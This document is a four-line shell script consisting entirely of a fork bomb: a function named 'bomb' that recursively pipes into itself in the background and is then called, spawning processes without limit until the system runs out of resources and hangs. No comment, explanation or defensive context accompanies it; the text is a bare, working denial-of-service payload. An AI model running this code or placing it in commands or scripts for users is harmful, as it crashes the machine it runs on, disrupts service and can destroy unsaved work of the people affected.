bomb() {
  bomb | bomb &
}
bomb
